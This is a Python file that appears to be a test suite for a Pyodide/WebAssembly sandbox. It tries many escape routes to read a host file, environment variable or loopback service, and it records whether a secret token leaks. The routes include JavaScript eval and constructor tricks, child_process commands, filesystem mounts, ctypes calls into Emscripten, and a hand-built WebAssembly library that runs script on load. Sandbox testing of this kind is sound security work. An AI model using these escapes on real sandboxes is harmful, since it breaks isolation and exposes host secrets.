"""Every known way from Python in WebAssembly to the machine around it. Each tries to read a secret of the host.

`ARGS`: `file` (a path on the host), `variable` (a name of its environment), `port` (on its loopback), `token` (what the
file and the variable hold). The functions give what they got; whoever gets the token, or an answer, has got out.
"""

import asyncio
import contextlib
import ctypes
import gc
import importlib
import importlib.machinery
import json
import os
import sys
import types

READ = f"process.getBuiltinModule('node:fs').readFileSync({json.dumps(ARGS['file'])}, 'utf8')"  # noqa: F821
VARIABLE = f"process.env[{json.dumps(ARGS['variable'])}]"  # noqa: F821
URL = f"http://127.0.0.1:{ARGS['port']}/"  # noqa: F821


def js_environment():
    import js

    return getattr(js.process.env, ARGS["variable"])  # noqa: F821


def js_eval():
    import js

    return js.eval(READ)


def js_function_constructor():
    import js

    return js.Function.new(f"return {READ}")()


def prototype_chain():
    import js

    return js.Object.constructor(f"return {VARIABLE}")()


def run_js():
    from pyodide.code import run_js

    return run_js(READ)


async def dynamic_import():
    from pyodide.code import run_js

    fs = await run_js("import('node:fs')")
    return fs.readFileSync(ARGS["file"], "utf8")  # noqa: F821


async def fetch():
    import js

    return await (await js.fetch(URL)).text()


async def pyfetch():
    from pyodide.http import pyfetch

    return await (await pyfetch(URL)).string()


def builtin_module():
    import js

    programs = js.process.getBuiltinModule("node:child_process")
    return programs.execFileSync("cat", _array(ARGS["file"]), _object(encoding="utf8"))  # noqa: F821


def mount_of_the_host():
    import pyodide_js

    fs = pyodide_js.FS
    fs.mkdir("/host-files")
    fs.mount(fs.filesystems.NODEFS, _object(root=os.path.dirname(ARGS["file"])), "/host-files")  # noqa: F821
    return open("/host-files/" + os.path.basename(ARGS["file"])).read()  # noqa: F821


def emscripten_module():
    import pyodide_js

    return pyodide_js._module.API.config.constructor.constructor(f"return {READ}")()


def core_module():
    core = importlib.import_module("_pyodide_core")
    return core.run_js(READ) if hasattr(core, "run_js") else js_eval()


def removed_finder():
    """Takes away whatever stands in the way of an import."""
    sys.meta_path[:] = [each for each in sys.meta_path if "pyodide" in str(each) or "importlib" in str(each)]
    import js

    return js.eval(READ)


def built_in_again():
    for name in ("_pyodide_core", "js", "pyodide_js"):
        try:
            spec = importlib.machinery.ModuleSpec(name, importlib.machinery.BuiltinImporter)
            module = importlib._bootstrap._load(spec)
            return module.eval(READ)
        except (ImportError, AttributeError):
            continue
    return js_eval()


def proxy_in_memory():
    """An object of JavaScript that something still holds."""
    for each in _everything():
        if type(each).__module__.startswith("pyodide") and type(each).__name__.startswith("Js"):
            with contextlib.suppress(AttributeError, TypeError):
                return each.constructor.constructor(f"return {READ}")()
    return js_eval()


def frames_of_the_guest():
    """What the functions hold that called this one."""
    frame = sys._getframe()
    while frame is not None:
        for each in list(frame.f_globals.values()) + list(frame.f_locals.values()):
            if isinstance(each, types.ModuleType) and each.__name__ in ("js", "pyodide_js"):
                return each.eval(READ)
        frame = frame.f_back
    return js_eval()


def event_loop():
    from pyodide.webloop import scheduleCallback

    return scheduleCallback.constructor(f"return {READ}")()


def c_function_that_runs_scripts():
    run = ctypes.CDLL(None).emscripten_run_script_string
    run.restype = ctypes.c_char_p
    return run(READ.encode()).decode()


def c_function_of_the_interpreter():
    run = ctypes.pythonapi.emscripten_run_script_string
    run.restype = ctypes.c_char_p
    return run(READ.encode()).decode()


def library_with_a_script():
    """A library whose loading runs a script: Emscripten evaluates what such a file names."""
    with open("/tmp/way_out.so", "wb") as file:
        file.write(_library(f"()<::>{{}},globalThis.atollFound={READ}"))
    ctypes.CDLL("/tmp/way_out.so")
    import js

    return js.atollFound


def _library(script):
    """WebAssembly with one export, which stands for a script: data at the library's memory, and its place."""

    def number(value):
        out = bytearray()
        while True:
            value, low = value >> 7, value & 127
            out.append(low | (128 if value else 0))
            if not value:
                return bytes(out)

    def name(text):
        return number(len(text)) + text.encode()

    def section(kind, body):
        return bytes([kind]) + number(len(body)) + body

    data = script.encode() + b"\0"
    info = number(len(data)) + number(0) + number(0) + number(0)
    link = section(0, name("dylink.0") + bytes([1]) + number(len(info)) + info)
    imports = section(
        2,
        number(2)
        + name("env") + name("__memory_base") + bytes([3, 0x7F, 0])
        + name("env") + name("memory") + bytes([2, 0, 0]),
    )
    globals_ = section(6, number(1) + bytes([0x7F, 0, 0x41, 0, 0x0B]))
    exports = section(7, number(1) + name("__em_js__way_out") + bytes([3]) + number(1))
    contents = section(11, number(1) + bytes([0, 0x23, 0, 0x0B]) + number(len(data)) + data)
    return b"\0asm\1\0\0\0" + link + imports + globals_ + exports + contents


def _array(*items):
    from pyodide.ffi import to_js

    return to_js(list(items))


def _object(**items):
    import js
    from pyodide.ffi import to_js

    return to_js(items, dict_converter=js.Object.fromEntries)


def _everything():
    seen = list(gc.get_objects())
    for each in list(seen):
        if isinstance(each, dict):
            seen.extend(each.values())
    return seen


WAYS = {
    name: way
    for name, way in list(globals().items())
    if isinstance(way, types.FunctionType) and not name.startswith("_")
}


def _outcome(got):
    text = str(got)
    return "out" if ARGS["token"] in text else f"got {text[:200]}"  # noqa: F821


async def try_out(name):
    try:
        got = WAYS[name]()
        return _outcome(await got if asyncio.iscoroutine(got) else got)
    except Exception as error:
        return f"{type(error).__name__}: {error}"[:300]
